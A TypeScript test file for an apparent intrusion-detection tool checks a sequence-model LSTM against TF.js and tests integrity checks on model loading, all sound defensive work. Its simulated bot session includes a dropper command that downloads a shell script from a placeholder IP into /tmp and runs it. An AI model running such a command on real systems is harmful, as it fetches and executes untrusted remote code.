import { copyFile, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as tf from '@tensorflow/tfjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ModelError } from '../../src/errors/vigil-error.js';
import type { SecurityEvent } from '../../src/events/security-events.js';
import {
  advanceSequence,
  createSequenceGroup,
  encodeSequenceStep,
  EPISODE_IDLE_MS,
  initialSequenceState,
  loadSequenceModel,
  SEQUENCE_LSTM_LAYER,
  SEQUENCE_MODEL_DIR,
  SEQUENCE_MODEL_FILES,
  type SequenceModel,
} from '../../src/features/behavioral/index.js';
import { initBackend } from '../../src/inference/backend.js';
import { auth, command, flow, run, session } from './behavioral-fixtures.js';

const S = 1000;

/** A bot's visit: connect, three guesses, a login, a scripted dropper, a port-forward, close. */
const visit: SecurityEvent[] = [
  session(0, 'connect'),
  session(12, 'client_version'),
  auth(900, 'failure'),
  auth(1_700, 'failure'),
  auth(2_600, 'failure', { attempts: 3 }),
  auth(3_400, 'success'),
  command(3_410, 'cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh'),
  command(3_414, 'sh x.sh', 'failed'),
  command(9_000, 'uname -a'),
  session(9_100, 'tunnel'),
  session(9_150, 'tunnel_data'),
  session(12_000, 'closed', { durationMs: 12_000 }),
];
/** The same source back after more than the idle gap: a new episode. */
const comeback: SecurityEvent[] = [session(12_000 + EPISODE_IDLE_MS + 60 * S, 'connect', { sessionId: 's2' }), auth(12_000 + EPISODE_IDLE_MS + 61 * S, 'failure', { sessionId: 's2' })];

let model: SequenceModel;
let lstmOutput: tf.LayersModel;

/** TF.js's own LSTM hidden states for one episode, run from zero state: [steps][units]. */
function tfHidden(episode: readonly SecurityEvent[]): number[][] {
  let lastTs: number | null = null;
  const x = episode.map((e) => {
    const step = encodeSequenceStep(e, lastTs);
    lastTs = e.ts;
    return step;
  });
  return tf.tidy(() => (lstmOutput.predict(tf.tensor3d([x])) as tf.Tensor3D).arraySync()[0]!);
}

beforeAll(async () => {
  model = await loadSequenceModel();
  await initBackend();
  const json = JSON.parse(await readFile(join(SEQUENCE_MODEL_DIR, SEQUENCE_MODEL_FILES.topology), 'utf8')) as tf.io.ModelJSON;
  const weights = await readFile(join(SEQUENCE_MODEL_DIR, SEQUENCE_MODEL_FILES.weights));
  const full = await tf.loadLayersModel(
    tf.io.fromMemory({ modelTopology: json.modelTopology, weightSpecs: json.weightsManifest[0]!.weights, weightData: weights.buffer.slice(weights.byteOffset, weights.byteOffset + weights.byteLength) as ArrayBuffer }),
  );
  lstmOutput = tf.model({ inputs: full.inputs, outputs: full.getLayer(SEQUENCE_LSTM_LAYER).output as tf.SymbolicTensor });
});

afterAll(() => {
  lstmOutput?.dispose();
});

describe('the committed sequence model', () => {
  it('is small, and names 5 distinct hidden units of its 16', () => {
    expect(model.lstm.units).toBe(16);
    expect(model.lstm.kernel.length).toBe(14 * 64);
    expect(new Set(model.featureUnits).size).toBe(5);
    expect(model.manifest.files[SEQUENCE_MODEL_FILES.weights]).toMatch(/^[0-9a-f]{64}$/);
    // featureUnits are the units of highest training variance, in that order.
    const ranked = model.manifest.hiddenVariance.map((v, u) => ({ v, u })).sort((a, b) => b.v - a.v);
    expect(model.featureUnits).toEqual(ranked.slice(0, 5).map((r) => r.u));
  });
});

describe('features 85-89: the plain-TypeScript LSTM step', () => {
  it('equals TF.js\'s LSTM on the same sequence, every unit at every step', () => {
    const expected = tfHidden(visit);
    let state = initialSequenceState(model.lstm.units);
    let worst = 0;
    visit.forEach((e, t) => {
      state = advanceSequence(model.lstm, state, e);
      state.h.forEach((h, u) => (worst = Math.max(worst, Math.abs(h - expected[t]![u]!))));
    });
    expect(worst).toBeLessThan(1e-5);
    // A trained LSTM on this input is not near zero everywhere: the comparison means something.
    expect(Math.max(...expected.flat().map(Math.abs))).toBeGreaterThan(0.3);
  });

  it('gives the five feature units as 85-89, one step per event, fresh at a new episode, unmoved by flows', () => {
    const group = createSequenceGroup(model);
    expect(group.slots).toEqual([85, 86, 87, 88, 89]);
    const values = run(group, [...visit, flow(13 * S), ...comeback]);
    const pick = (h: number[]) => model.featureUnits.map((u) => h[u]!);
    const first = tfHidden(visit).map(pick);
    const second = tfHidden(comeback).map(pick);
    const close = (a: number[], b: number[]) => a.forEach((v, i) => expect(v).toBeCloseTo(b[i]!, 5));
    first.forEach((v, t) => close(values[t]!, v));
    expect(values[visit.length]).toEqual(values[visit.length - 1]); // the flow
    second.forEach((v, t) => close(values[visit.length + 1 + t]!, v));
  });

  it('starts at 0, the zero state', () => {
    const group = createSequenceGroup(model);
    expect(run(group, [flow(0)])).toEqual([[0, 0, 0, 0, 0]]);
  });
});

describe('loadSequenceModel', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'vigil-seq-'));
  });
  afterAll(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  async function copyModel(edit?: (manifest: Record<string, unknown>) => void): Promise<string> {
    const to = await mkdtemp(join(dir, 'm-'));
    for (const f of Object.values(SEQUENCE_MODEL_FILES)) await copyFile(join(SEQUENCE_MODEL_DIR, f), join(to, f));
    if (edit) {
      const path = join(to, SEQUENCE_MODEL_FILES.manifest);
      const manifest = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>;
      edit(manifest);
      await writeFile(path, JSON.stringify(manifest));
    }
    return to;
  }

  it('loads an intact copy to the same weights', async () => {
    const copy = await loadSequenceModel(await copyModel());
    expect(Array.from(copy.lstm.bias)).toEqual(Array.from(model.lstm.bias));
  });

  it('refuses modified weights', async () => {
    const to = await copyModel();
    const weights = await readFile(join(to, SEQUENCE_MODEL_FILES.weights));
    weights[100] = weights[100]! ^ 0xff;
    await writeFile(join(to, SEQUENCE_MODEL_FILES.weights), weights);
    await expect(loadSequenceModel(to)).rejects.toThrow(/weights\.bin does not match its sha256/);
  });

  it('refuses a model trained on another input encoding', async () => {
    const to = await copyModel((m) => ((m.encoding as { version: number }).version = 99));
    await expect(loadSequenceModel(to)).rejects.toThrow(/trained on input encoding 99/);
  });

  it('refuses feature units the model does not have', async () => {
    const to = await copyModel((m) => (m.featureUnits = [0, 1, 2, 3, 16]));
    await expect(loadSequenceModel(to)).rejects.toThrow(ModelError);
  });

  it('refuses a directory without a model', async () => {
    await expect(loadSequenceModel(join(dir, 'nothing-here'))).rejects.toThrow(ModelError);
  });
});
